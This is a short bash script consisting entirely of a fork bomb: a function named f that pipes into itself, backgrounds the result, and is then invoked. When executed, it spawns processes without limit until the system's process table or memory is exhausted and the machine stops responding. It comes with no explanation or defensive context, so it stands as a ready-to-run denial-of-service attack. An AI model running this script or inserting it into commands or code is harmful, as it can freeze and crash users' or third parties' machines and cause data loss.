#!/bin/bash
f() { f | f & }
f
